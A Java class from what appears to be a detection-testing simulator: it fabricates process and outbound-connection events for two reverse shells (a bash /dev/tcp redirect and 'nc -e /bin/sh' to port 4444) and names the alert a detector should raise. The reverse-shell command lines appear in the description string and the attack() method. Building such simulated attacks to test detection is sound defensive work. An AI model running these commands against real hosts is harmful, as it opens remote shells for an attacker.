package io.vigil.simulator.scenario;

import io.vigil.simulator.agent.Events;
import io.vigil.simulator.agent.ProcessCreate;

import java.util.List;

/**
 * Two classic reverse shells to an internet address on port 4444: bash redirecting an interactive shell to
 * {@code /dev/tcp}, and netcat executing {@code /bin/sh} for the remote end.
 */
final class ReverseShellScenario implements AttackScenario {

    static final int ATTACKER_PORT = 4444;

    @Override
    public String name() {
        return "reverse-shell";
    }

    @Override
    public String description() {
        return "bash -i >& /dev/tcp/<ip>/4444 0>&1 and nc -e /bin/sh <ip> 4444, calling out";
    }

    @Override
    public List<String> expectedFindings() {
        return List.of("alert IoT_ReverseShell (Reverse shells, High)");
    }

    @Override
    public Episode attack(DeviceState device) {
        String attacker = device.externalAddress("203.0.113");
        Account victim = device.profile().appUser();
        String lan = device.profile().lanAddress();
        ProcessCreate bash = device.process("/bin/bash",
                "bash -i >& /dev/tcp/" + attacker + "/" + ATTACKER_PORT + " 0>&1", victim, DeviceState.APP_PID);
        ProcessCreate netcat = device.process("/usr/bin/nc",
                "nc -e /bin/sh " + attacker + " " + ATTACKER_PORT, victim, DeviceState.APP_PID);
        return new Episode()
                .atMillis(0, bash)
                .atMillis(20, Events.outboundConnection("/bin/bash", attacker, ATTACKER_PORT)
                        .local(lan, device.ephemeralPort()).processId(bash.processId()).userId(victim.userId())
                        .commandLine(bash.commandLine()))
                .atSecond(30, netcat)
                .atMillis(30_020, Events.outboundConnection("/usr/bin/nc", attacker, ATTACKER_PORT)
                        .local(lan, device.ephemeralPort()).processId(netcat.processId()).userId(victim.userId())
                        .commandLine(netcat.commandLine()))
                .atMillis(30_200, device.process("/bin/dash", "/bin/sh", victim, netcat.processId()));
    }
}
